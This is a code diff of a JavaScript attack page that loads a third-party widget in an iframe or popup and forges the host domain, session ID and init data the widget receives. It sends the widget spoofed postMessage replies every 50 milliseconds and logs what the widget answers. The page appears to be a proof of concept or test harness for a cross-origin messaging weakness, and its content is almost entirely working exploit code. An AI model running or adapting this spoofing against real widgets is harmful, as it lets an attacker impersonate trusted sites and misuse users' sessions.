@@ -1,8 +1,19 @@
-// Frames the widget as if this were a portal. `?domain=` names the host to forge.
+// Frames the widget as if this were a portal, lies to it and shows all it says.
+//
+// | parameter | |
+// |---|---|
+// | `domain` | the host to forge; this one's by default, none at all if it is empty |
+// | `popup` | the widget is opened as a popup, once the page is clicked, and not framed |
 
-const DOMAIN = new URLSearchParams(location.search).get('domain') ?? location.host;
+const asked = new URLSearchParams(location.search);
+const DOMAIN = asked.get('domain') ?? location.host;
 const SID = '0123456789abcdef0123456789abcdef';
 const WIDGET = location.origin.replace('//hostile.', '//widget.');
+const NAME = DOMAIN === '' ? 'no triple' : `${DOMAIN}|0|${SID}`;
+const ADDRESS = `${WIDGET}/?${new URLSearchParams({ DOMAIN, PROTOCOL: '0', LANG: 'en', APP_SID: SID })}`;
+
+/** Without waiting for a question. */
+const LIE_MS = 50;
 
 const FORGED = {
   LANG: 'en',
@@ -27,17 +38,36 @@ const log = document.getElementById('log');
 window.addEventListener('message', ({ origin, data, source }) => {
   const text = typeof data === 'string' ? data : JSON.stringify(data);
   log.textContent += `${origin} ${text}\n`;
-  const asked = typeof data === 'string' ? data : data?.method;
-  if (typeof asked === 'string' && asked.startsWith('getInitData')) {
+  const question = typeof data === 'string' ? data : data?.method;
+  if (typeof question === 'string' && question.startsWith('getInitData')) {
     const callback = typeof data === 'string' ? data.split(':').at(-2) : data.callback;
     source.postMessage(`${callback}:${JSON.stringify(FORGED)}`, '*');
   }
 });
 
-const frame = document.createElement('iframe');
-frame.id = 'widget';
-frame.name = `${DOMAIN}|0|${SID}`;
-frame.width = 360;
-frame.height = 420;
-frame.src = `${WIDGET}/?${new URLSearchParams({ DOMAIN, PROTOCOL: '0', LANG: 'en', APP_SID: SID })}`;
-document.getElementById('frame').append(frame);
+function lieTo(widget) {
+  setInterval(() => {
+    widget.postMessage(`${SID}:${JSON.stringify(FORGED)}`, '*');
+    widget.postMessage({ method: 'getInitData', callback: SID, params: FORGED, result: FORGED }, '*');
+    widget.postMessage(FORGED, '*');
+  }, LIE_MS);
+}
+
+function open() {
+  document.body.removeEventListener('click', open);
+  lieTo(window.open(ADDRESS, NAME, 'width=380,height=460'));
+}
+
+function frame() {
+  const element = document.createElement('iframe');
+  element.id = 'widget';
+  element.name = NAME;
+  element.width = 360;
+  element.height = 420;
+  element.src = ADDRESS;
+  document.getElementById('frame').append(element);
+  lieTo(element.contentWindow);
+}
+
+if (asked.has('popup')) document.body.addEventListener('click', open);
+else frame();
